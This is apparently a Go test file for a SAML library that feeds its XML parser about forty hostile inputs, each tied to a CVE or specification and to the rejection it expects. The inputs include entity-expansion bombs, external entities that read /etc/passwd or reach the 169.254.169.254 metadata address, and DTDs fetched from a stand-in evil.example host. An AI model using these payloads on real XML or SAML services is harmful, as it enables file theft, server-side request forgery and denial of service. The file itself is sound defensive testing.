package saml_test

import (
	"strings"

	"github.com/beevik/etree"

	"sallyport/internal/saml"
)

// documents attack whoever reads XML.
func documents() []attack {
	dtd := func(subset, use string) func(string) string {
		return func(s string) string {
			s = s[strings.Index(s, "<samlp:Response"):]
			return "<!DOCTYPE r [" + subset + "]>" + strings.ReplaceAll(s, "jane-at-acme", use)
		}
	}
	root := func(more string) func(string) string {
		return func(s string) string { return strings.Replace(s, "<samlp:Response", "<samlp:Response "+more, 1) }
	}
	return []attack{
		{name: "a billion laughs", source: "CVE-2003-1564 (libxml2)", want: saml.ForbiddenXML,
			text: dtd(`<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">`, "&c;")},
		{name: "a quadratic blowup", source: "CVE-2013-1664 (Python)", want: saml.ForbiddenXML,
			text: dtd(`<!ENTITY a "`+strings.Repeat("a", 50_000)+`">`, strings.Repeat("&a;", 5000))},
		{name: "a file by an external entity", source: "CVE-2013-1665 (Python), Steuck 2002", text: dtd(`<!ENTITY a SYSTEM "file:///etc/passwd">`, "&a;"), want: saml.ForbiddenXML},
		{name: "a request by an external entity", source: "Steuck 2002; Novikov, SSRF bible 2012", text: dtd(`<!ENTITY a SYSTEM "http://169.254.169.254/">`, "&a;"), want: saml.ForbiddenXML},
		{name: "a parameter entity", source: "Yunusov and Osipov, XML Out-Of-Band, 2013", text: dtd(`<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;`, "x"), want: saml.ForbiddenXML},
		{name: "an external subset", source: "CVE-2025-25291 (ruby-saml)", text: func(s string) string {
			return `<!DOCTYPE r SYSTEM "http://evil.example/x.dtd">` + s[strings.Index(s, "<samlp:Response"):]
		}, want: saml.ForbiddenXML},
		{name: "a declaration with a comment in a quotation", source: "CVE-2025-25291 (ruby-saml), CVE-2020-29510 (encoding/xml)", text: dtd(`<!ENTITY a '"'><!-- '">]> -->`, "x"), want: saml.ForbiddenXML},
		{name: "an ID by an entity", source: "CVE-2025-23369 (GitHub Enterprise Server)", text: func(s string) string {
			s = s[strings.Index(s, "<samlp:Response"):]
			return `<!DOCTYPE r [<!ENTITY idref "_evil">]>` + strings.Replace(s, "ID=\"", "ID=\"&idref;", 1)
		}, want: saml.ForbiddenXML},
		{name: "a default attribute by a declaration", source: "XML Signature Best Practices §2.1.2", text: dtd(`<!ATTLIST Assertion ID CDATA "_evil">`, "x"), want: saml.ForbiddenXML},
		{name: "an undeclared entity", source: "XML 1.0 §4.1", text: func(s string) string { return strings.ReplaceAll(s, "jane-at-acme", "&admin;") }, want: saml.NotXML},
		{name: "an element whose name begins with a colon", source: "CVE-2020-29511 (encoding/xml)", text: func(s string) string {
			return strings.Replace(s, "</samlp:Response>", "<::x/></samlp:Response>", 1)
		}, want: saml.NotXML},
		{name: "an element of an empty prefix", source: "CVE-2020-29511 (encoding/xml)", text: func(s string) string {
			return strings.Replace(s, "</samlp:Response>", "<:x></:x></samlp:Response>", 1)
		}, want: saml.AmbiguousXML},
		{name: "an attribute of an empty prefix", source: "CVE-2020-29509 (encoding/xml)", text: root(`:ID="_evil"`), want: saml.AmbiguousXML},
		{name: "an attribute that declares nothing", source: "CVE-2020-29509 (encoding/xml)", text: root(`xmlns:="urn:evil"`), want: saml.AmbiguousXML},
		{name: "an attribute of an undeclared prefix", source: "CVE-2020-29509 (encoding/xml)", text: root(`x:ID="_evil"`), want: saml.AmbiguousXML},
		{name: "an element of an undeclared prefix", source: "Namespaces in XML §5", text: func(s string) string {
			return strings.Replace(s, "</samlp:Response>", "<x:y/></samlp:Response>", 1)
		}, want: saml.AmbiguousXML},
		{name: "a prefix that is declared away", source: "Namespaces in XML §2.2", text: root(`xmlns:x=""`), want: saml.AmbiguousXML},
		{name: "the prefix xml for something else", source: "Namespaces in XML §3", text: root(`xmlns:xml="urn:evil"`), want: saml.AmbiguousXML},
		{name: "another prefix for the XML namespace", source: "Namespaces in XML §3", text: root(`xmlns:x="http://www.w3.org/XML/1998/namespace"`), want: saml.AmbiguousXML},
		{name: "an attribute that stands twice", source: "XML 1.0 §3.1, which encoding/xml does not keep to", text: root(`ID="_evil"`), want: saml.AmbiguousXML},
		{name: "an attribute that stands twice by two prefixes", source: "Namespaces in XML §6.3", text: root(`xmlns:x="urn:x" xmlns:y="urn:x" x:a="1" y:a="2"`), want: saml.AmbiguousXML},
		{name: "an ID that two elements have", source: "XML Signature Best Practices §3.1", tree: func(r *etree.Element) {
			r.FindElement("./Status").CreateAttr("ID", assertionOf(r).SelectAttrValue("ID", ""))
		}, want: saml.DuplicateID},
		{name: "the same ID as Id", source: "Gajek et al., Analysis of Signature Wrapping Attacks and Countermeasures, ICWS 2009", tree: func(r *etree.Element) {
			r.FindElement("./Status").CreateAttr("Id", assertionOf(r).SelectAttrValue("ID", ""))
		}, want: saml.DuplicateID},
		{name: "the same ID as xml:id", source: "xml:id 1.0 §6", tree: func(r *etree.Element) {
			r.FindElement("./Status").CreateAttr("xml:id", assertionOf(r).SelectAttrValue("ID", ""))
		}, want: saml.DuplicateID},
		{name: "too deep", source: "CVE-2022-30633, CVE-2022-28131 (encoding/xml)", text: func(s string) string {
			return strings.Replace(s, "</samlp:Response>", strings.Repeat("<x>", 10_000)+strings.Repeat("</x>", 10_000)+"</samlp:Response>", 1)
		}, want: saml.TooLarge},
		{name: "too many elements", source: "Jensen, Gruschka and Herkenhöner, A survey of attacks on web services, 2009: coercive parsing", text: func(s string) string {
			return strings.Replace(s, "</samlp:Response>", strings.Repeat("<x/>", 20_000)+"</samlp:Response>", 1)
		}, want: saml.TooLarge},
		{name: "too many attributes", source: "Jensen, Gruschka and Herkenhöner 2009: coercive parsing", text: func(s string) string {
			var more strings.Builder
			for i := range 1000 {
				more.WriteString(" a" + strings.Repeat("x", i%90) + strings.Repeat("y", i/90) + `="1"`)
			}
			return root(more.String())(s)
		}, want: saml.TooLarge},
		{name: "too many bytes", source: "CVE-2023-28119 (crewjam/saml), by size", text: func(s string) string {
			return strings.Replace(s, "jane-at-acme", strings.Repeat("j", 600_000), 1)
		}, want: saml.TooLarge},
		{name: "deflated, in a form", source: "CVE-2023-26483 (gosaml2): it inflates what is no XML", text: func(string) string { return bomb() }, want: saml.NotXML},
		{name: "UTF-16", source: "XML 1.0 §4.3.3; Tavares, WAF bypass by encodings", text: func(s string) string { return "\xfe\xff" + wide(s) }, want: saml.NotXML},
		{name: "UTF-7 by its declaration", source: "XML 1.0 §4.3.3", text: func(s string) string { return `<?xml version="1.0" encoding="UTF-7"?>` + s }, want: saml.ForbiddenXML},
		{name: "bytes that are no UTF-8", source: "RFC 3629 §10", text: func(s string) string { return strings.ReplaceAll(s, "jane-at-acme", "jane\xc0\x80") }, want: saml.NotXML},
		{name: "a character that XML has not", source: "XML 1.0 §2.2", text: func(s string) string { return strings.ReplaceAll(s, "jane-at-acme", "jane&#0;") }, want: saml.NotXML},
		{name: "XML 1.1", source: "XML 1.1 §2.13: other names, other line ends", text: func(s string) string { return `<?xml version="1.1"?>` + s }, want: saml.ForbiddenXML},
		{name: "cut short", source: "XML 1.0 §2.1", text: func(s string) string { return s[:len(s)-8] }, want: saml.NotXML},
		{name: "elements that overlap", source: "XML 1.0 §3", text: func(s string) string {
			return strings.Replace(s, "</samlp:Response>", "<a><b></a></b></samlp:Response>", 1)
		}, want: saml.NotXML},
		{name: "text outside", source: "XML 1.0 §2.1", text: func(s string) string { return s + "admin" }, want: saml.NotXML},
		{name: "nothing at all", source: "CVE-2020-7731 (gosaml2)", text: func(string) string { return "" }, want: saml.BadEncoding},
		{name: "an empty element", source: "CVE-2020-7731 (gosaml2)", text: func(string) string {
			return `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"/>`
		}, want: saml.WrongVersion},
		{name: "HTML", source: "CVE-2020-7731 (gosaml2)", text: func(string) string { return "<!doctype html><p>sorry" }, want: saml.ForbiddenXML},
	}
}
